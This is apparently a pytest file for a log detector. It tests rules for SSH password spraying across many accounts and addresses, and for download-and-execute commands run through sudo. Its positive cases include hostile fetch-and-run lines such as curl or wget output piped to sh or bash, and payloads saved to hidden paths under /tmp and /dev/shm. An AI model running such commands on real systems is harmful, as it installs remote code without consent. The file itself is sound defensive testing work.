"""Issue 43, item 9 (detectors): a spray spread over many addresses with a try each, and a download
run as root to be executed, each gave no record. Real parser, shipped rules."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest
from _rule_events import by_rule, fired, syslog

from logwarden.app.detect import Detector, load_rules

T0 = datetime(2024, 3, 1, 10, 0, 0)
USERS = ["admin", "oracle", "test", "ubuntu", "postgres", "git", "deploy", "pi", "guest", "user", "ftp", "mysql",
         "nagios", "support", "jenkins", "hadoop", "backup", "www", "tomcat", "minecraft", "alice", "bob", "dev",
         "ansible", "docker"]


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def sshd_failures(pairs: list[tuple[str, str]], seconds: int = 3) -> list:
    """One failed password per (user, address), `seconds` apart, on host web01."""
    lines = []
    for n, (user, ip) in enumerate(pairs):
        ts = T0 + timedelta(seconds=seconds * n)
        lines.append(syslog(f"{ts:%b %d %H:%M:%S} web01 sshd[{3000 + n}]: Failed password for invalid user {user} "
                            f"from {ip} port {40000 + n} ssh2", n + 1))
    return lines


def test_one_failure_each_from_many_addresses_against_many_accounts_is_a_spray(rules):
    pairs = [(USERS[i % len(USERS)], f"198.51.{100 + i // 200}.{i % 200 + 1}") for i in range(120)]
    signals = Detector(rules).scan(sshd_failures(pairs))
    assert not by_rule(signals, "lw-ssh-bruteforce") and not by_rule(signals, "lw-ssh-password-spray")  # per address: 1 try
    [users] = by_rule(signals, "lw-ssh-spray-many-users")
    [sources] = by_rule(signals, "lw-ssh-spray-many-sources")
    assert users.category == sources.category == "brute_force" and users.level == "medium"
    assert len(sources.line_numbers) == 120  # every attempt is evidence


def test_many_addresses_trying_one_account_once_each_is_a_distributed_brute_force(rules):
    signals = Detector(rules).scan(sshd_failures([("root", f"203.0.113.{i}") for i in range(1, 41)]))
    assert by_rule(signals, "lw-ssh-spray-many-sources") and not by_rule(signals, "lw-ssh-spray-many-users")


def test_a_few_typos_spread_over_an_hour_are_no_spray(rules):
    slow = sshd_failures([(USERS[i], f"10.0.0.{i}") for i in range(12)], seconds=300)  # one every 5 min
    assert not {"lw-ssh-spray-many-users", "lw-ssh-spray-many-sources"} & fired(Detector(rules).scan(slow))


SUDO = "Mar  1 10:00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND={}"


@pytest.mark.parametrize("command", [
    "/usr/bin/curl -fsSL https://get.example.net/install.sh",  # `sudo curl … | sh`: sudo logs the curl
    "/usr/bin/wget -q http://198.51.100.7/x -O /tmp/.x",
    "/usr/bin/curl -s http://198.51.100.7/payload -o /dev/shm/p",
    "/bin/sh -c curl -s http://198.51.100.7/a | sh",
    "/bin/bash -c wget -qO- https://paste.example/raw/abc | bash",
    "/usr/bin/curl http://198.51.100.7/stage2.py?x=1",
])
def test_download_and_execute_through_sudo_fires(rules, command):
    [signal] = by_rule(Detector(rules).scan([syslog(SUDO.format(command))]), "lw-sudo-download-execute")
    assert signal.level == "high"


@pytest.mark.parametrize("command", [
    "/usr/bin/curl -fsSLo /etc/apt/keyrings/docker.asc https://download.docker.com/linux/ubuntu/gpg",
    "/usr/bin/wget https://releases.example.org/app-1.2.tar.gz",
    "/usr/bin/apt-get install -y curl",
    "/usr/bin/systemctl restart nginx",
])
def test_ordinary_root_downloads_and_commands_do_not(rules, command):
    assert not by_rule(Detector(rules).scan([syslog(SUDO.format(command))]), "lw-sudo-download-execute")
